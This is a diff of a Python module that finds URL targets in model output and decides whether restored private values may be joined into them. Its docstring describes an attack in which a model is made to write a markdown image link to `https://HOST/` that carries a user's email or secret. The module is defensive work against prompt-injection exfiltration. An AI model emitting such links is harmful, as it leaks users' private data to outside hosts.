@@ -1,13 +1,14 @@
-"""Targets: the addresses in a restored text, and which originals are joined into one.
+"""Link targets: addresses in a restored text, and which originals join one.
 
-In: a text piece by piece, with the places where originals stand in it. Out: for each place, whether the original may
-stand there.
+In: a text piece by piece, with the places of originals in it. Out: for each place, whether the
+original may be put there.
 Not here: what is restored (`restore`), and where the targets of releases are kept (`snapshot`).
 
-Whoever can make a model write `![](https://HOST/<EMAIL_1>)` must not get the address, also where it is built from
-placeholders: `<URL_1><SECRET_1>`. So the text is read as it is after restoring. An original that is joined into a
-target may stand there only where the same target stood in a text that was protected, where it names the host itself,
-or where the host is one that is trusted. What is unclear counts as a target.
+An attacker who can make a model write `![](https://HOST/<EMAIL_1>)` must not receive the address,
+also where the target is built from placeholders: `<URL_1><SECRET_1>`. So the text is read as it is
+after restoring. An original that is joined into a target may be put there only where the same
+target occurred in a text that was protected, where it names the host itself, or where the host is
+trusted. What is unclear counts as a target.
 """
 
 import ipaddress
@@ -24,24 +25,36 @@ from unicodedata import normalize
 from urllib.parse import unquote
 
 HOSTED = ("URL", "HOST", "IP", "EMAIL")
-"""Types of values that may be the host of an address, or have one."""
+"""Types of values that may be or contain an address's host."""
 
 _OVERLAP = 1024
-"""Characters before those that are new in which an address may have begun: a host has at most 253, %-encoded 759."""
+"""Characters before new text in which an address may have begun.
+
+A host has at most 253 characters, %-encoded 759.
+"""
 
 _SPECIAL = frozenset(
     """example test invalid localhost local internal intranet lan corp home private onion alt arpa
     localdomain""".split()  # noqa: SIM905 - a word a line would be a page
 )
-"""Last labels of host names that no registry has (RFC 2606, RFC 6761, RFC 6762), and those of internal networks."""
+"""Last labels of host names that are unregistered or internal.
+
+See RFC 2606, RFC 6761 and RFC 6762.
+"""
 
 _PLAIN_ENDS = _SPECIAL | {"com", "net", "org", "edu", "gov", "mil", "biz", "info", "dev", "io"}
-"""Last labels that make a host of two labels; others, as in `Julia.It`, need a third one or a path."""
+"""Last labels that make two labels a host without a path.
+
+With a different last label, as in `Julia.It`, a host needs a third label or a path.
+"""
 
 _FILES = frozenset(
     ["md", "py", "sh", "rs", "pl", "ps", "cc", "so", "zip", "mov", "app", "java", "cs", "ml"]
 )
-"""Last labels that are endings of files, too: a colon behind `main.py` opens no path."""
+"""Last labels that are file extensions, too.
+
+A colon behind `main.py` opens no path.
+"""
 
 _WIDE = str.maketrans(
     {0xFF01 + i: chr(0x21 + i) for i in range(94)}
@@ -49,13 +62,16 @@ _WIDE = str.maketrans(
 )
 _IGNORED = re.compile("[\u00ad\u034f\u061c\u180e\u200b-\u200f\u2060-\u2064\ufe00-\ufe0f\ufeff]")
 _TRAILING = ".,;:!?)]}*_~'\"`\\>|"
-"""Characters at the end of a target that belong to the sentence or code around it."""
+"""Characters at a target's end that belong to the text around it."""
 
 _LETTERS = (
     r"\w\-%\u00ad\u034f\u200b-\u200f\u2060-\u2064\u2100-\u214f\u2460-\u24ff\u2600-\u27bf\ufe00-\ufe0f\ufeff"
     r"\U0001f100-\U0001f1ff\U0001f300-\U0001faff"
 )
-"""Characters of host names: letters in all writings that readers turn into plain ones, and what they ignore."""
+"""Characters of host names.
+
+With look-alike letters that readers normalize, and characters that they ignore.
+"""
 _LABEL = f"[{_LETTERS}]"
 _HEAD = re.compile(
     r"""(?xi) (?<![a-z0-9+.\-]) [a-z][a-z0-9+.\-]{1,30} : [/\\]{2}
@@ -67,7 +83,10 @@ _HEAD = re.compile(
     | (?<![\w/\\]) [/\\]{2} \[ [0-9a-f:.%]+ \]
     | (?<![\w:/\\]) \\{2} (?=[^\s\\/]*[.@]) [^\s\\/]+ \\"""
 )
-"""How an address begins wherever it stands; host names and numbers are looked for by `_HOST` and `_NUMBER`."""
+"""Pattern of an address's beginning, by its scheme or slashes.
+
+Host names and numbers are looked for by `_HOST` and `_NUMBER`.
+"""
 _USER = r"(?:[a-z0-9][a-z0-9!$%*+\-.:@^_~]{0,255}@)?"
 _HOST = re.compile(
     rf"(?i)(?<![a-z0-9\-%.:@]){_USER}(?P<host>(?<![\w.]){_LABEL}+(?:\.{_LABEL}+){{0,126}})\.?"
@@ -84,36 +103,44 @@ _OPAQUE = re.compile(
     r"(?i)(?:javascript|vbscript|mailto|sms(?:to)?|blob|intent|view-source|data(?=:[\w.+\-/;=]*,)):"
 )
 _ABSOLUTE = re.compile(r"(?i)\s*[\"'(]?\s*(?:[/\\]{2}|[a-z][a-z0-9+.\-]{1,30}:|\\)")
-"""A link, or the inside of `url(...)`, that names its host."""
+"""Pattern of a link, or inside of `url(...)`, that names its host."""
 _START = re.compile(r"(?i)(?:[a-z][a-z0-9+.\-]*:[/\\]+|(?:https?|ftps?|wss?):|[/\\]{2,})?")
 _CLOSED = {quote: re.compile(rf"(?<!\\){quote}(?=[,:;)\]}}>\s])") for quote in "\"'`"}
 _CLOSED |= {f"\\{quote}": re.compile(rf"\\{quote}(?=[,:;)\]}}>\s\\])") for quote in "\"'`"}
-"""How a quotation mark closes a string: written as it was opened, and with something behind it that may stand there."""
+"""Patterns of the mark that closes a string, by the opening one.
+
+It is written like the opening mark, and a character follows that may follow a string.
+"""
 _ADDED = re.compile(r"[&#;,\s]")
 _TAG_NAME = re.compile(r"[A-Za-z0-9:\-]")
 _LOUD = re.compile(r"""[<>"'`\](${]""")
 _ENDED = re.compile(r"(?s).*\s")
 _GROWS = re.compile(rf"[{_LETTERS}.。｡．․﹒@+:~]")
-"""Characters that may go on with a host, or with what stands before one."""
+"""Characters that may extend a host, or the user before one."""
 
 _FETCHED = frozenset(
     """src href action formaction srcset imagesrcset poster data background cite ping style srcdoc
     content longdesc manifest archive codebase classid usemap profile lowsrc dynsrc xlink:href code
     object to from values http-equiv""".split()  # noqa: SIM905 - as above
 )
-"""Attributes whose values are addresses, or may hold some; `on...` too. Others hold text."""
+"""Attributes whose values are or contain addresses; `on...` too.
+
+The values of all other attributes are text.
+"""
 
 _OUTSIDE, _OPENED, _NAME, _TAG, _EQUALS, _QUOTED, _BARE = range(7)
 
 _COMMANDS = (("`", "`"), ("${", "}"), ("$(", ")"))
-"""How a command or a value inside a target begins and ends, in which spaces end nothing."""
+"""Delimiters of commands and values in a target; spaces there end nothing."""
 
 
 class Insertion:
-    """Where an original stands in a text: undecided while `waits`, then `allowed` or not.
+    """Place of an original in a text: undecided while it `waits`.
+
+    Once `waits` is 0, `allowed` says whether the original may be put there.
 
     Args:
-        type: of the value, upper-case.
+        type: type of the value, upper-case.
     """
 
     __slots__ = ("allowed", "type", "waits")
@@ -122,7 +149,7 @@ class Insertion:
         self.type, self.waits, self.allowed = type_, 0, True
 
     def settle(self, allowed: bool) -> None:
-        """Takes one of the verdicts that it waits for."""
+        """Records one of the pending verdicts; one refusal is enough to refuse."""
         self.waits -= 1
         self.allowed &= allowed
 
@@ -132,25 +159,26 @@ class Trusted:
     """Targets and hosts into which originals may be joined. Secret.
 
     Args:
-        targets: that stood in protected texts with their originals, sorted.
-        hosts: internal ones that a user named, and those that the configuration names; `*.NAME` for all below a name.
+        targets: targets from protected texts, with their originals, sorted.
+        hosts: internal hosts that a user named, and hosts of the configuration; `*.NAME` for all
+            below a name.
     """
 
     targets: Sequence[str] = field(default=(), repr=False)
     hosts: Collection[str] = field(default=frozenset(), repr=False)
 
     def has(self, target: str) -> bool:
-        """Whether a target is one of them."""
+        """Says whether a target is trusted."""
         place = bisect_left(self.targets, target)
         return place < len(self.targets) and self.targets[place] == target
 
     def has_longer(self, begin: str) -> bool:
-        """Whether one of the targets begins so."""
+        """Says whether a trusted target starts with this text."""
         place = bisect_left(self.targets, begin)
         return place < len(self.targets) and self.targets[place].startswith(begin)
 
     def has_host(self, host: str) -> bool:
-        """Whether a host is trusted."""
+        """Says whether a host, or a wildcard above it, is trusted."""
         labels = host.split(".")
         return host in self.hosts or any(
             f"*.{'.'.join(labels[i:])}" in self.hosts for i in range(1, len(labels))
@@ -158,19 +186,19 @@ class Trusted:
 
 
 _Verdict = bool | Literal["wait"]
-"""Whether an original may stand where it does, or that further text decides that."""
+"""Verdict on the place of an original; "wait" if further text decides."""
 
 
 _Place = tuple[Insertion, int, int]
-"""Where an original stands in a target or a run: its verdict, where it begins and where it ends."""
+"""An insertion with its start and end in a target or run."""
 
 
 class _Target:
-    """A target that is being read, with the places in it that are undecided.
+    """A target being read, with its undecided places.
 
     Args:
-        flat: whether it is an address as a whole by where it stands: a link's destination, an attribute.
-        text: how it begins.
+        flat: True if its position makes all of it an address: a link's destination, an attribute.
+        text: its beginning.
     """
 
     __slots__ = (
@@ -180,9 +208,9 @@ class _Target:
     def __init__(self, text: str = "", *, flat: bool = False) -> None:
         self.flat, self.pieces, self.length = flat, [text] if text else [], len(text)
         self.places: list[_Place] = []
-        # Where it begins and ends, once more text changes nothing.
+        # Start and end of the host, once more text cannot change it.
         self.host: tuple[int, int] | None = None
-        self.hopeless = self.trusted = False  # no known target begins so; its host is trusted
+        self.hopeless = self.trusted = False  # no known target begins like it; its host is trusted
         self._check = self.joined = 0  # where the last original ends
 
     def add(self, text: str) -> None:
@@ -197,7 +225,7 @@ class _Target:
         return whole
 
     def cut(self, count: int) -> str:
-        """Takes characters off the end; returns the rest."""
+        """Removes characters from the end and returns the rest."""
         rest = self.text()[:-count]
         self.pieces, self.length = [rest], len(rest)
         return rest
@@ -210,18 +238,29 @@ class _Target:
         self.joined = self.length
 
     def ends(self, quote: str, char: str) -> bool:
-        """Whether the text ends with a quotation mark that closes a string before a character, and is no original."""
+        """Says whether a quotation mark ends the text and closes a string.
+
+        A mark that belongs to an original closes nothing.
+
+        Args:
+            quote: the opening mark, with a backslash if it was escaped.
+            char: the character that follows.
+        """
         if self.joined == self.length or not self.pieces or not self.pieces[-1].endswith(quote[-1]):
             return False
         return _CLOSED[quote].search("".join(self.pieces[-2:])[-2:] + char) is not None
 
     def is_due(self, final: bool) -> bool:
-        """Says whether it has ended, or enough was added since the last look; so all looks together are linear."""
+        """Says whether the target should be judged now.
+
+        That is at its end, or when its length doubled since the last check, so the checks together
+        are linear.
+        """
         grown = self.length >= self._check or self.length < 64
         return bool(self.places) and (final or grown or self.hopeless)
 
     def looked(self) -> None:
-        """Notes a look."""
+        """Sets the length at which the next check is due."""
         self._check = 2 * self.length
 
     def settle(self) -> None:
@@ -231,17 +270,17 @@ class _Target:
         self.places = []
 
     def is_lost(self) -> bool:
-        """Says whether only its host decides of all further places, which stand behind it."""
+        """Says whether the host alone decides all further places, which follow it."""
         return self.hopeless and self.host is not None and self.places[0][1] >= self.host[1]
 
 
 class TargetFinder:
-    """Reads a text and decides which originals in it are joined into targets.
+    """Streaming parser that decides which originals in a text join targets.
 
-    Each original counts as one step: what is inside it closes no quotation mark, link or tag.
+    Each original counts as one step: its characters close no quotation mark, link or tag.
 
     Args:
-        trusted: what may be joined.
+        trusted: targets and hosts that originals may join.
     """
 
     def __init__(self, trusted: Trusted) -> None:
@@ -252,13 +291,14 @@ class TargetFinder:
         self._tag, self._quote, self._attribute, self._tag_name = _OUTSIDE, "", "", ""
         self._value: _Target | None = None
         self._link: _Target | None = None
-        self._depth = 0  # of brackets inside the destination of a link
+        self._depth = 0  # open brackets inside the destination of a link
         self._angled = self._after = self._in_string = False
         self._opening = ""  # "](" or "]:" was read, and its destination has not begun
         self._css: _Target | None = None
-        self._based = False  # whether relative links lead to another host
+        self._based = False  # a <base> tag was read: relative links may lead to another host
         self._last = ""
-        # A run is text between spaces; a target in it may be open, and places at its end may yet be a part of a host.
+        # A run is text between spaces; a target in it may be open, and originals at its end may
+        # become part of a host.
         self._run: list[str] = []
         self._length = self._scanned = 0
         self._open: _Target | None = None
@@ -267,12 +307,12 @@ class TargetFinder:
         self._marked = (
             False  # whether quotation marks or dollars are in it, so that spaces may not end it
         )
-        self._quotes = 0  # in the line before the run
+        self._quotes = 0  # number of quotation marks in the line before the run
 
-    # ---- steps -------------------------------------------------------------------------------------------------------
+    # ---- steps -----------------------------------------------------------------------------------
 
     def pass_text(self, text: str) -> None:
-        """Steps over text that is no original."""
+        """Reads text that is no original."""
         at = 0
         while at < len(text):
             if not self._is_quiet():
@@ -295,7 +335,7 @@ class TargetFinder:
         self._last = text[-1]
 
     def pass_original(self, text: str, place: Insertion) -> None:
-        """Steps over an original."""
+        """Reads an original."""
         if not text:
             return
         if self._tag in (_OPENED, _NAME):
@@ -307,15 +347,15 @@ class TargetFinder:
         if self._after and self._link is not None and _ABSOLUTE.match(self._link.text()):
             self._after = False
             self._link.add(" ")
-        target = self._around()
+        target = self._enclosing_target()
         if target is not None:
             self._join(target, place, text)
         else:
             self._join_run(place, text)
         self._last = ""
 
-    def _around(self) -> _Target | None:
-        """Gives the target that all is a part of which comes next."""
+    def _enclosing_target(self) -> _Target | None:
+        """Returns the open target that any next character belongs to, if any."""
         if self._link is not None and not self._after:
             return self._link
         if self._value is not None and self._value.flat:
@@ -323,27 +363,30 @@ class TargetFinder:
         return self._css if self._css is not None and _ABSOLUTE.match(self._css.text()) else None
 
     def begin_value(self) -> None:
-        """Ends a text and begins another one, which is a string."""
+        """Ends the text and begins a new one inside a string."""
         self.close()
         self._begin()
         self.pass_text('"')
 
     def fork(self) -> Self:
-        """Returns another one in the same place, from where it may read another text; both decide what is undecided."""
-        made = copy(self)
-        made._run, made._tail = self._run.copy(), self._tail.copy()
-        undecided = [place for place, _, _ in made._tail]
+        """Copies the finder, so that both read different text from here.
+
+        Each undecided place then waits for the verdicts of both.
+        """
+        twin = copy(self)
+        twin._run, twin._tail = self._run.copy(), self._tail.copy()
+        undecided = [place for place, _, _ in twin._tail]
         for name in ("_value", "_link", "_css", "_open"):
             if (target := getattr(self, name)) is not None:
-                setattr(made, name, own := copy(target))
-                own.pieces, own.places = target.pieces.copy(), target.places.copy()
-                undecided += [place for place, _, _ in own.places]
+                setattr(twin, name, target_copy := copy(target))
+                target_copy.pieces, target_copy.places = target.pieces.copy(), target.places.copy()
+                undecided += [place for place, _, _ in target_copy.places]
         for place in undecided:
             place.waits += 1
-        return made
+        return twin
 
     def close(self) -> None:
-        """Ends the text; all places are decided then."""
+        """Ends the text, which decides all places."""
         self._end_run()
         for target in (self._link, self._value, self._css):
             if target is not None:
@@ -351,7 +394,7 @@ class TargetFinder:
         self._link = self._value = self._css = None
 
     def _is_quiet(self) -> bool:
-        """Whether only the ends of runs matter."""
+        """Says whether only the ends of runs matter."""
         return self._last != "]" and not (
             self._tag or self._tail or self._opening or self._marked
             or self._open is not None or self._link is not None or self._css is not None
@@ -368,11 +411,11 @@ class TargetFinder:
             self._step_run(char)
         self._last = char
 
-    # ---- links and tags ----------------------------------------------------------------------------------------------
+    # ---- links and tags --------------------------------------------------------------------------
 
     def _follow_link(self, char: str) -> bool:
-        """Follows the destination of a link; whether the character belongs to it."""
-        link = self._link_at(char)
+        """Reads a character of a link's destination; False if it is none."""
+        link = self._find_link(char)
         if link is None:
             return False
         if self._angled and not link.length and char == "<" and self._last != "<":
@@ -388,8 +431,8 @@ class TargetFinder:
         self._judge(link)
         return True
 
-    def _link_at(self, char: str) -> _Target | None:
-        """Gives the link whose destination a character may belong to; it begins behind `](` or `]:`."""
+    def _find_link(self, char: str) -> _Target | None:
+        """Returns the open link, beginning one behind `](` or `]:`."""
         if self._opening:
             if char.isspace() and not char == self._last == "\n":
                 return None
@@ -399,7 +442,10 @@ class TargetFinder:
         return self._link
 
     def _ends_link(self, link: _Target, char: str) -> bool | None:
-        """Says whether a character ends a link's destination; None for a space that is no part of it, or may be one."""
+        """Says whether a character ends a link's destination.
+
+        None for a space that is no part of it, or may be one.
+        """
         escaped = self._last == "\\"
         if self._angled:
             return char in ("\n" if escaped else "\n>")
@@ -418,14 +464,17 @@ class TargetFinder:
         return char.isspace()
 
     def _ends_string(self, link: _Target, char: str) -> bool:
-        """Says whether a link ends with the string that it is in, whose quotation mark is no part of it."""
+        """Says whether the string around a link ends; removes its quotation mark."""
         ended = self._in_string and char in ",:;)]}" and link.ends('"', char)
         if ended:
             link.cut(1)
         return ended
 
     def _ends_behind_space(self, link: _Target, char: str) -> bool:
-        """Says whether a title or its bracket ends a link; lenient readers take other text for a part of an address."""
+        """Says whether a title or bracket behind a space ends a link.
+
+        Lenient readers take any other text there for a part of the address.
+        """
         self._after = False
         if char in "\"'()" or not _ABSOLUTE.match(link.text()):
             return True
@@ -433,11 +482,14 @@ class TargetFinder:
         return False
 
     def _begin_link(self, char: str) -> None:
-        """Begins the destination of a link, if one begins here; its first character is not read yet."""
+        """Begins a link's destination, if one may start with this character.
+
+        The character itself is not read.
+        """
         reference, self._opening = self._opening == "]:", ""
         self._angled, self._after = char == "<", False
         self._depth = 0 if reference else 1
-        self._in_string = self._run_quote() == '"'
+        self._in_string = self._find_run_quote() == '"'
         if not (char[:1] in "\"'`" or (reference and not self._angled and char not in ("/", "\\"))):
             self._link = _Target(flat=True)
 
@@ -511,7 +563,7 @@ class TargetFinder:
             self._value.add(char)
             self._judge(self._value)
 
-    # ---- runs --------------------------------------------------------------------------------------------------------
+    # ---- runs ------------------------------------------------------------------------------------
 
     def _run_text(self) -> str:
         whole = "".join(self._run)
@@ -529,7 +581,7 @@ class TargetFinder:
             self._run, self._length, self._scanned = [whole[-_OVERLAP:]], _OVERLAP, _OVERLAP
 
     def _step_run(self, char: str) -> None:
-        if self._closer or (char in " \t" and self._goes_on()):
+        if self._closer or (char in " \t" and self._can_continue()):
             self._step_closer(char)
         elif char.isspace() or char in "<>":
             self._end_run(char)
@@ -539,7 +591,7 @@ class TargetFinder:
             self._step_bare(char)
 
     def _step_bare(self, char: str) -> None:
-        """Goes on outside of targets."""
+        """Reads a character outside of targets."""
         self._marked |= char in "\"'`$"
         far = bool(self._tail) and self._length - self._tail[0][1] > _OVERLAP
         if self._tail and (far or _GROWS.match(char) is None):
@@ -550,10 +602,13 @@ class TargetFinder:
             self._grow(char)
 
     def _step_open(self, char: str) -> None:
-        """Goes on with an open target of the run, which a quotation mark in front of it may end."""
+        """Reads a character of the run's open target.
+
+        It may complete the quotation mark that ends the target.
+        """
         target = self._open
         assert target is not None, "or there would be nothing to go on with"
-        quote = self._run_quote() if char in ",:;)]}\\" else ""
+        quote = self._find_run_quote() if char in ",:;)]}\\" else ""
         if quote and target.ends(quote, char):
             closed = target.cut(len(quote))
             self._judge(target, final=True)
@@ -566,7 +621,10 @@ class TargetFinder:
         self._judge(target)
 
     def _step_closer(self, char: str) -> None:
-        """Goes on with a target in quotation marks or `$( )`, in which spaces end nothing."""
+        """Reads a character of a target in quotation marks or `$( )`.
+
+        Spaces end no such target.
+        """
         assert self._open is not None, "or nothing would need an end"
         if char in (self._closer, "\n") and self._last != "\\":
             self._end_run(char)
@@ -575,8 +633,11 @@ class TargetFinder:
         self._open.add(char)
         self._judge(self._open)
 
-    def _goes_on(self) -> bool:
-        """Whether a target goes on behind a space: in a string that begins with it, and in a command inside it."""
+    def _can_continue(self) -> bool:
+        """Says whether a target continues behind a space.
+
+        It does in a string that begins with it, and in a command inside it.
+        """
         if self._open is None and not self._find_open():
             return False
         assert self._open is not None, "or none was found"
@@ -592,7 +653,7 @@ class TargetFinder:
         return bool(self._closer)
 
     def _end_run(self, behind: str = "") -> None:
-        """Ends the run; at the end of a line, which may come behind it, no quotation mark of it counts any more."""
+        """Ends the run; a line break behind it resets the quotation marks."""
         if self._tail:
             self._resolve("")
         if self._open is not None:
@@ -604,24 +665,27 @@ class TargetFinder:
         self._run, self._length, self._scanned = [], 0, 0
         self._open, self._closer, self._tail, self._marked = None, "", [], False
 
-    def _run_quote(self) -> str:
-        """The quotation mark in front of the open target of the run: right before it, or earlier in the line."""
+    def _find_run_quote(self) -> str:
+        """Returns the quotation mark of the string around the run's open target."""
         before = self._run_text()
-        return self._quote_before(before, len(before))
+        return self._find_quote(before, len(before))
 
-    def _quote_before(self, whole: str, start: int) -> str:
-        """The quotation mark of the string that a place of the run is in: right before it, or earlier in the line."""
+    def _find_quote(self, whole: str, start: int) -> str:
+        """Returns the quotation mark of the string around a place, or "".
+
+        It is directly before the place, or earlier in the line.
+        """
         if whole[start - 1 : start] in _CLOSED:
             return whole[start - 1 - (whole[start - 2 : start - 1] == "\\") : start]
         return '"' if (self._quotes + _count(whole[:start])) % 2 else ""
 
     def _find_open(self) -> bool:
-        """Finds a target that is open at the end of the run; the run then ends where the target begins."""
+        """Splits off a target that is open at the run's end."""
         if self._scanned >= self._length:
             return False
         whole = self._run_text()
         low = max(0, self._scanned - _OVERLAP)
-        start = next(self._opened(whole, low, len(whole)), None)
+        start = next(self._find_openings(whole, low, len(whole)), None)
         if start is None:
             self._scanned = self._length
             return False
@@ -629,7 +693,7 @@ class TargetFinder:
         return True
 
     def _cut(self, start: int) -> None:
-        """Makes the end of the run, from a place on, its open target."""
+        """Splits the run: from this offset on, it is the open target."""
         whole = self._run_text()
         self._open = _Target(whole[start:])
         self._run, self._length = [whole[:start]], start
@@ -637,7 +701,7 @@ class TargetFinder:
         self._judge(self._open)
 
     def _hand_over(self, target: _Target, start: int, end: int) -> None:
-        """Gives the places at the end of the run to a target that stands there; those beside it may stay."""
+        """Moves the pending places inside a target to it; allows all others."""
         for place, begin, stop in self._tail:
             if begin < end and start < stop:
                 target.places.append((place, max(0, begin - start), min(stop, end) - start))
@@ -646,7 +710,10 @@ class TargetFinder:
         self._tail = []
 
     def _join_run(self, place: Insertion, text: str) -> None:
-        """Steps over an original in a run. Spaces in it end no target, because it may stay a placeholder."""
+        """Reads an original in a run.
+
+        Spaces in it end no target, because it may stay a placeholder.
+        """
         if self._open is None and not self._tail:
             self._find_open()
         if self._open is not None:
@@ -654,7 +721,7 @@ class TargetFinder:
             return
         begin = self._add_tail(place, text)
         whole = self._run_text()
-        for start in self._opened(whole, max(0, self._tail[0][1] - _OVERLAP), begin):
+        for start in self._find_openings(whole, max(0, self._tail[0][1] - _OVERLAP), begin):
             self._cut(next((low for _, low, high in self._tail if low <= start < high), start))
             return
         self._scanned = begin
@@ -664,7 +731,7 @@ class TargetFinder:
             self._add_tail(place, text[ended.end() :])
 
     def _add_tail(self, place: Insertion, text: str) -> int:
-        """Appends an original that may yet be a part of a host; returns where it begins."""
+        """Appends an original that may extend a host; returns its offset."""
         begin = self._length
         if text:
             place.waits += 1
@@ -673,37 +740,37 @@ class TargetFinder:
             self._tail.append((place, begin, self._length))
         return begin
 
-    def _opened(self, whole: str, low: int, end: int) -> Iterator[int]:
-        """Where targets begin in the run that no quotation mark ends before a place."""
+    def _find_openings(self, whole: str, low: int, end: int) -> Iterator[int]:
+        """Yields offsets where targets begin that no quotation mark ends before `end`."""
         closed = 0
-        for start in sorted(_heads(whole, low)):
+        for start in sorted(_find_heads(whole, low)):
             if start < closed:
                 continue
-            found = self._closing(whole, start, end)
-            if found is None:
+            end_found = self._find_closing(whole, start, end)
+            if end_found is None:
                 yield start
             else:
-                closed = found
+                closed = end_found
 
-    def _closing(self, whole: str, start: int, end: int) -> int | None:
-        """Where the string ends in which a target of the run begins, if it does before a place."""
-        quote = self._quote_before(whole, start) if start else ""
-        found = _CLOSED[quote].search(whole, start, end) if quote else None
-        return found.start() if found else None
+    def _find_closing(self, whole: str, start: int, end: int) -> int | None:
+        """Finds where the string around a target ends, if before `end`."""
+        quote = self._find_quote(whole, start) if start else ""
+        mark = _CLOSED[quote].search(whole, start, end) if quote else None
+        return mark.start() if mark else None
 
     def _resolve(self, char: str) -> None:
-        """Decides the places at the end of the run: a host goes on behind them, or none does.
+        """Decides the places at the run's end: in a host, or not.
 
         Args:
-            char: what comes next; "" at the end of the run.
+            char: the next character; "" at the end of the run.
         """
         whole, first = self._run_text(), self._tail[0][1]
         low = max(0, first - _OVERLAP)
-        for start in self._opened(whole + char, low, first):
+        for start in self._find_openings(whole + char, low, first):
             if start < self._tail[-1][2]:
                 self._cut(start)
                 return
-        for start, end in _names(whole, low, called=char == "("):
+        for start, end in _find_names(whole, low, called=char == "("):
             if any(start < high and low_ < end for _, low_, high in self._tail):
                 self._hand_over(target := _Target(whole[start:end]), start, end)
                 self._judge(target, final=True)
@@ -713,14 +780,14 @@ class TargetFinder:
         self._tail = []
         self._scanned = self._length
 
-    # ---- verdicts ----------------------------------------------------------------------------------------------------
+    # ---- verdicts --------------------------------------------------------------------------------
 
     def _join(self, target: _Target, place: Insertion, text: str) -> None:
         target.join(place, text)
         self._judge(target)
 
     def _judge(self, target: _Target, *, final: bool = False) -> None:
-        """Decides the places of a target that can be decided; at its end, all."""
+        """Decides the places of a target that are certain, finally all."""
         if not target.is_due(final):
             return
         if not final and target.is_lost():
@@ -731,20 +798,20 @@ class TargetFinder:
         self._find_host(target, text, final)
         bare = text.strip().rstrip("\"'`,;\\" if target.flat else _TRAILING)
         waiting = []
-        for each in target.places:
-            verdict = self._by_form(target, text, each, final)
+        for place in target.places:
+            verdict = self._judge_by_form(target, text, place, final)
             if verdict is None:
-                verdict = self._by_host(target, text, each)
+                verdict = self._judge_by_host(target, text, place)
             if verdict is None:
-                verdict = self._by_memory(target, text, bare, each[2], final)
+                verdict = self._judge_by_memory(target, text, bare, place[2], final)
             if verdict == "wait":
-                waiting.append(each)
+                waiting.append(place)
             else:
-                each[0].settle(verdict)
+                place[0].settle(verdict)
         target.places = waiting
 
     def _find_host(self, target: _Target, text: str, final: bool) -> None:
-        """Notes the host of a target, once more text changes nothing."""
+        """Stores the host of a target, once more text cannot change it."""
         if target.host is not None:
             return
         low, high, complete = authority(text)
@@ -752,8 +819,15 @@ class TargetFinder:
             target.host = low, high
             target.trusted = bool(self._trusted.hosts) and self._is_trusted(text, text[low:high])
 
-    def _by_form(self, target: _Target, text: str, at: _Place, final: bool) -> _Verdict | None:
-        """Says whether an original may stand in a target that is nothing else, or mail to it; None where it is not."""
+    def _judge_by_form(
+        self, target: _Target, text: str, at: _Place, final: bool
+    ) -> _Verdict | None:
+        """Returns the verdict for a target that is only the original.
+
+        None for any other target. A mail address behind `mailto:` counts, too.
+
+        A mail address behind `mailto:` counts, too.
+        """
         _, start, end = at
         behind = text[end : end + 64].strip(_TRAILING + " ")
         whole = len(text) <= end + 64 and not text[:start].strip()
@@ -763,8 +837,11 @@ class TargetFinder:
             return "wait"
         return not (target.flat and self._based) or _ABSOLUTE.match(text) is not None
 
-    def _by_host(self, target: _Target, text: str, at: _Place) -> _Verdict | None:
-        """Says whether an original names the host itself, or stands beside a trusted one; None where it does not."""
+    def _judge_by_host(self, target: _Target, text: str, at: _Place) -> _Verdict | None:
+        """Returns the verdict by the host; None if the host decides nothing.
+
+        An original may name the host itself, or be joined to a trusted host.
+        """
         place, start, end = at
         if target.host is None:
             return "wait" if place.type in HOSTED or self._trusted.hosts else None
@@ -773,25 +850,27 @@ class TargetFinder:
             return True
         return True if target.trusted and (end <= low or start >= high) else None
 
-    def _by_memory(self, target: _Target, text: str, bare: str, end: int, final: bool) -> _Verdict:
-        """Says whether the same target stood in a protected text, or the beginning of this one did."""
-        known = self._is_known(bare, final)
-        target.hopeless = known is False
+    def _judge_by_memory(
+        self, target: _Target, text: str, bare: str, end: int, final: bool
+    ) -> _Verdict:
+        """Returns the verdict by trusted targets and their beginnings."""
+        is_known = self._is_known(bare, final)
+        target.hopeless = is_known is False
         if target.hopeless:
             return self._has_stood(text, end, target.host)
-        return "wait" if known is None else known
+        return "wait" if is_known is None else is_known
 
     def _is_trusted(self, text: str, host: str) -> bool:
         return self._trusted.has_host(host.lower().strip("[]")) and is_plain(text)
 
     def _is_known(self, text: str, final: bool) -> bool | None:
-        """Whether the same target stood in a protected text; None where further text decides that."""
+        """Says whether a target is trusted; None if further text decides."""
         if final:
             return self._trusted.has(text)
         return None if self._trusted.has_longer(text) else False
 
     def _has_stood(self, text: str, end: int, host: tuple[int, int] | None) -> bool:
-        """Whether a known target begins this one, has the original and the whole host in it, and more is only added."""
+        """Says whether a trusted target, with original and host, begins this one."""
         ends = (end + match.start() for match in islice(_ADDED.finditer(text[end:]), 4))
         return host is not None and any(
             at >= host[1] and self._trusted.has(text[:at]) for at in ends
@@ -799,7 +878,7 @@ class TargetFinder:
 
 
 class TargetCollector(TargetFinder):
-    """Finds the targets into which originals are joined, in a text that is protected.
+    """Collector of the targets in a protected text that originals join.
 
     Attributes:
         found: the targets, with their originals.
@@ -816,11 +895,15 @@ class TargetCollector(TargetFinder):
         return True
 
 
-# ---- hosts -----------------------------------------------------------------------------------------------------------
+# ---- hosts ---------------------------------------------------------------------------------------
 
 
 def authority(text: str) -> tuple[int, int, bool]:
-    """Where the host of an address begins and ends, and whether more text would not change that."""
+    """Finds the host in an address and whether it is complete.
+
+    Returns:
+        Start and end of the host; True if it is complete.
+    """
     start = _START.match(text)
     low = start.end() if start else 0
     path = _PATH.search(text, low)
@@ -834,7 +917,10 @@ def authority(text: str) -> tuple[int, int, bool]:
 
 
 def is_plain(text: str) -> bool:
-    """Whether all readers take the same host from an address: it has nothing odd before its path."""
+    """Says whether all readers find the same host in an address.
+
+    True if nothing unusual precedes the path.
+    """
     return _PLAIN.match(text) is not None and not _OPAQUE.match(text)
 
 
@@ -845,7 +931,10 @@ _PLAIN = re.compile(
 
 
 def is_internal(host: str) -> bool:
-    """Whether a host is one of an own network by its form: loopback, private addresses, one label, internal ends."""
+    """Says whether a host is internal by its form.
+
+    Loopback and private addresses, single labels and internal endings are.
+    """
     host = host.lower().strip("[]").rstrip(".")
     try:
         address = ipaddress.ip_address(host)
@@ -867,25 +956,28 @@ _NAMED = re.compile(
 
 
 def internal_hosts(text: str) -> set[str]:
-    """The internal hosts that a text names: in addresses, and names that are internal by their end."""
-    found = set()
+    """Finds internal hosts in a text.
+
+    Those are hosts of addresses, and names with an internal ending.
+    """
+    hosts = set()
     for match in (
         _NAMED.finditer(text) if "." in text or "//" in text or "localhost" in text.lower() else ()
     ):
